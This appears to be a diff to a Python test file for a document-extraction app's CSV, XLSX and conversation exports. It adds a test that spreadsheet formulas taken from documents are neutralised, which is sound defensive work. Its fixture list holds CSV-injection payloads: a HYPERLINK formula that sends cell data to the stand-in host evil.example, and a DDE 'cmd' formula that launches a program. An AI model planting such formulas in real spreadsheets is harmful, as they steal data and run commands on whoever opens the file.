@@ -80,7 +80,11 @@ def test_csv_round_trip(table: tuple[AppContext, int, ExtractionTable], tmp_path
         for i, f in enumerate(t.fields):
             start = 2 + i * len(CSV_PARTS)
             back[(row[1], f.name)] = tuple(row[start : start + len(CSV_PARTS)])
-    assert back == _expected(t)
+    # Cells a spreadsheet would run as formulas carry a leading apostrophe (see the test below); the rest is as stored.
+    expected = {k: tuple("'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v for v in parts)
+                for k, parts in _expected(t).items()}  # fmt: skip
+    assert back == expected
+    assert any(v.startswith("'=HYPERLINK(") for parts in back.values() for v in parts)
 
 
 def test_xlsx_round_trip(table: tuple[AppContext, int, ExtractionTable], tmp_path: Path) -> None:
@@ -153,18 +157,27 @@ def test_conversation_markdown_and_pdf_carry_citations_and_sha256(
         {"text": "[p. 4]", "valid": True, "quote_found": True},
         {"text": "[p. 9]", "valid": False, "quote_found": None},
     ]
-    convs.add_message(conv, "assistant", 'It is "the laws of the State of Delaware" [p. 4].', citations=cites,
-                      model="Gemma (demo)", model_sha256="cd" * 32)  # fmt: skip
+    answer = 'It is "the laws of the State of Delaware" [p. 4]. The fee is 99 euros. It is payable monthly.'
+    from app.grounding import Sources, ground_answer
+
+    claims = [v.to_dict() for v in ground_answer(answer, Sources.load(ctx, [doc.id])).claims]
+    reply = convs.add_message(conv, "assistant", answer, citations=cites, model="Gemma (demo)",
+                              model_sha256="cd" * 32)  # fmt: skip
+    convs.update_message(reply, claims=claims)
     exporter = Exporter(ctx)
     md = exporter.conversation(conv, tmp_path / "c.md").path.read_text()
     assert doc.sha256 in md and "cd" * 32 in md
-    assert "[p. 4] - page checked - quote found" in md and "[p. 9] - page not in the document" in md
+    assert "[p. 4] - page exists - quote found" in md and "[p. 9] - page not in the document" in md
+    assert "page checked" not in md  # a page that exists is not a check of the sentence
+    assert "Checked sentence by sentence (1 quoted · 1 unsupported · 1 not checked)" in md
+    assert "**✓ quoted p. 4** It is" in md and "Quoted: the quoted words were found on p. 4" in md
+    assert "**✗ unsupported** The fee is 99 euros." in md and "Not in the document at all: “99 euros”" in md
     pdf = exporter.conversation(conv, tmp_path / "c.pdf").path
     with pymupdf.open(pdf) as opened:
         text = " ".join(page.get_text() for page in opened)
     flat = " ".join(text.split())
     assert doc.sha256 in flat.replace(" ", "") and "Which law governs?" in flat
-    assert "page checked - quote found" in flat
+    assert "page exists - quote found" in flat and "✓ quoted p. 4" in flat and "✗ unsupported" in flat
     with pytest.raises(FileExists):
         exporter.conversation(conv, tmp_path / "c.pdf")
     with pytest.raises(Exception, match="use one of"):
@@ -195,3 +208,55 @@ def test_write_new_refuses_a_race(tmp_path: Path) -> None:
     with pytest.raises(FileExists):
         write_new(target, b"two")
     assert target.read_bytes() == b"one" and [p.name for p in tmp_path.iterdir()] == ["x.bin"]
+
+
+FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1, "open")', "+44 20 7946 0000", "-2% growth",
+            "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0", "\r=1+1"]  # fmt: skip
+HARMLESS = ["Delaware", "a=b", "2 + 2", "'already quoted", "  =spaced"]
+
+
+def test_spreadsheet_formulas_from_documents_never_run(starter_home: Path, tmp_path: Path) -> None:
+    """OWASP's CSV-injection rule: a cell starting with = + - @ tab or carriage return is marked as text
+    (CSV: a leading apostrophe; XLSX: stored as text with Excel's quote-prefix mark, value unchanged)."""
+    from openpyxl import load_workbook
+
+    from app.context import open_app
+    from tests.fixtures.pdfs import make_contract_pdf
+
+    ctx = open_app()
+    try:
+        doc = ctx.library.add(make_contract_pdf(tmp_path / "a.pdf")).document.id
+        tpl = TemplateStore.for_config(ctx.paths.config_dir).get("nda")
+        service = ExtractionService(ctx)
+        run = service.start_run(tpl, [doc])
+        values = FORMULAS + HARMLESS
+        fields = [f.key for f in tpl.fields][: len(values)]
+        names = [f.name for f in tpl.fields][: len(values)]
+        cells = [
+            Cell(doc, key, True, value, value, "1", 1, "1", None, "exact", 1.0)
+            for key, value in zip(fields, values, strict=True)
+        ]
+        service._store(run, cells, {}, STATS)
+        exporter = Exporter(ctx)
+        with exporter.table(run, tmp_path / "t.csv").path.open(encoding="utf-8-sig", newline="") as handle:
+            rows = list(csv.reader(handle))  # newline="": a carriage return inside a cell stays one
+        book = load_workbook(exporter.table(run, tmp_path / "t.xlsx").path)
+    finally:
+        ctx.close()
+    by_name = dict(zip(rows[0], rows[1], strict=True))
+    for value, name in zip(values, names, strict=True):
+        written = by_name[name]
+        assert by_name[f"{name} | quote"] == written  # the quote column is neutralised the same way
+        if value in FORMULAS:
+            assert written == "'" + value
+        else:
+            assert written == value
+    sheet = book["Table"]
+    header = [c.value for c in sheet[1]]
+    for value, name in zip(values, names, strict=True):
+        cell = sheet.cell(2, header.index(name) + 1)
+        assert cell.value == value.replace("\r", "\n") and cell.data_type == "s"  # XML reads a CR back as LF
+        assert bool(cell.quotePrefix) is (value in FORMULAS)
+    evidence = book["Evidence"]
+    marked = [c.value for row in evidence.iter_rows(min_row=2) for c in row if c.quotePrefix]
+    assert set(marked) == {v.replace("\r", "\n") for v in FORMULAS}  # value and quote columns
